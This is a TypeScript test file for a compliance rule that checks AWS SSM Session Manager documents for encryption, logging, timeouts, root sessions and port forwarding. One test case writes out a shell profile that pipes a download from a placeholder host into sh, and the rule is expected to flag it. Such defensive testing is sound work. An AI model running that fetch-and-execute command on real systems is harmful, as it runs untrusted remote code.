import { sessionDocument } from '../../../lib/rules/identity/session-document';
import { all } from '../changes';
import { type Change, resource, template, testRule } from '../kit';
import { premiseRows } from '../premises';
import { ACCOUNT, DEPLOYMENT, given, LAMBDA, role } from './deployment';

const INPUTS = {
  kmsKeyId: 'alias/sanso-my-number',
  cloudWatchLogGroupName: '/sanso/sessions',
  cloudWatchEncryptionEnabled: true,
  maxSessionDuration: '60',
};
const session = (inputs: unknown, sessionType = 'Standard_Stream') => ({
  DocumentType: 'Session',
  Content: { schemaVersion: '1.0', sessionType, inputs },
});

/** Somebody of my-number may start the document that a session without a name runs. */
const starting = (Name?: string): Change =>
  all(
    (draft) => draft.remove('lgwan/Sessions'),
    given(
      'SSM::Document',
      { ...session(INPUTS), ...(Name ? { Name } : {}) },
      {
        Person: role('sanso-my-number-person', LAMBDA, [
          { Action: 'ssm:StartSession', Resource: `arn:aws:ssm:*:${ACCOUNT}:document/SSM-SessionManagerRunShell` },
        ]),
      },
    ),
  );

const ARCHIVE = template('log-archive', { Bucket: resource('S3::Bucket', { BucketName: 'archive' }) }, '444444444444');

testRule(sessionDocument, DEPLOYMENT, [
  ['a recorded, encrypted session', given('SSM::Document', session(INPUTS)), 'conforms'],
  [
    'the same as YAML',
    given('SSM::Document', {
      DocumentType: 'Session',
      Content: 'inputs: {kmsKeyId: a, s3BucketName: b, maxSessionDuration: 60}',
    }),
    'conforms',
  ],
  [
    'a session as root',
    given('SSM::Document', session({ ...INPUTS, runAsEnabled: true, runAsDefaultUser: 'root' })),
    ['finding my-number/It'],
  ],
  [
    'a session as another user',
    given('SSM::Document', session({ ...INPUTS, runAsEnabled: true, runAsDefaultUser: 'operator' })),
    'conforms',
  ],
  [
    'a session that begins with a download',
    given('SSM::Document', session({ ...INPUTS, shellProfile: { linux: 'curl https://x.example | sh' } })),
    ['finding my-number/It'],
  ],
  [
    'a session that begins in a folder',
    given('SSM::Document', session({ ...INPUTS, shellProfile: { linux: 'cd /var/log && exec bash' } })),
    'conforms',
  ],
  [
    'a session under the key of AWS',
    given('SSM::Document', session({ ...INPUTS, kmsKeyId: 'alias/aws/ssm' })),
    ['finding my-number/It'],
  ],
  [
    'a session recorded in a log that the deployment has',
    given('SSM::Document', session(INPUTS), { Log: resource('Logs::LogGroup', { LogGroupName: '/sanso/sessions' }) }),
    'conforms',
  ],
  [
    'a session recorded in a log that the deployment does not have',
    given('SSM::Document', session(INPUTS), { Log: resource('Logs::LogGroup', { LogGroupName: '/sanso/app' }) }),
    ['finding lgwan/Sessions', 'finding my-number/It'],
  ],
  [
    'commands in place of a shell',
    given('SSM::Document', { ...session(INPUTS, 'InteractiveCommands'), Name: 'SSM-SessionManagerRunShell' }),
    ['finding my-number/It'],
  ],
  ['a session without a key', given('SSM::Document', session({ ...INPUTS, kmsKeyId: '' })), ['finding my-number/It']],
  [
    'a session without a record',
    given('SSM::Document', session({ kmsKeyId: 'a', maxSessionDuration: '60' })),
    ['finding my-number/It'],
  ],
  [
    'a session recorded in the clear',
    given('SSM::Document', session({ ...INPUTS, cloudWatchEncryptionEnabled: false })),
    ['finding my-number/It'],
  ],
  [
    'a session recorded while it lasts',
    given('SSM::Document', session({ ...INPUTS, cloudWatchStreamingEnabled: true })),
    'conforms',
  ],
  [
    'a session recorded when it ends',
    given('SSM::Document', session({ ...INPUTS, cloudWatchStreamingEnabled: false })),
    ['finding my-number/It'],
  ],
  [
    'a session that waits for an hour',
    given('SSM::Document', session({ ...INPUTS, idleSessionTimeout: '60' })),
    ['finding my-number/It'],
  ],
  [
    'a session of a day',
    given('SSM::Document', session({ ...INPUTS, maxSessionDuration: '1440' })),
    ['finding my-number/It'],
  ],
  [
    'a session without an end',
    given('SSM::Document', session({ ...INPUTS, maxSessionDuration: '' })),
    ['finding my-number/It'],
  ],
  [
    'a session that ends',
    given('SSM::Document', session({ ...INPUTS, idleSessionTimeout: '15', maxSessionDuration: 60 })),
    'conforms',
  ],
  ['a recorded document beside the one that people start', starting('recorded'), ['finding my-number/It']],
  ['a recorded document without a name', starting(), ['finding my-number/It']],
  ['the one that people start', starting('SSM-SessionManagerRunShell'), 'conforms'],
  ['a session that forwards ports', given('SSM::Document', session(INPUTS, 'Port')), ['finding my-number/It']],
  [
    'a session that nobody knows',
    given('SSM::Document', { DocumentType: 'Session', Content: { Ref: 'Open' } }),
    ['undecided my-number/It'],
  ],
  ['a document of another kind', given('SSM::Document', { DocumentType: 'Command', Content: {} }), 'conforms'],
  ['a whole deployment without a session document', (draft) => draft.remove('lgwan/Sessions'), [`finding ${ACCOUNT}`]],
  [
    'an archive without a session document in its account',
    (draft) => {
      draft.templates.archive = ARCHIVE;
    },
    ['finding 444444444444'],
  ],
  [
    'an archive with a session document in its account',
    (draft) => {
      draft.templates.archive = ARCHIVE;
      draft.add('archive/Sessions', 'SSM::Document', session(INPUTS));
    },
    'conforms',
  ],
  [
    'a part of one without a session document',
    (draft) => {
      draft.remove('lgwan/Sessions');
      delete draft.templates.internet;
    },
    'conforms',
  ],
  ...premiseRows('session-document', ACCOUNT, (draft) => draft.remove('lgwan/Sessions'), [`finding ${ACCOUNT}`]),
]);
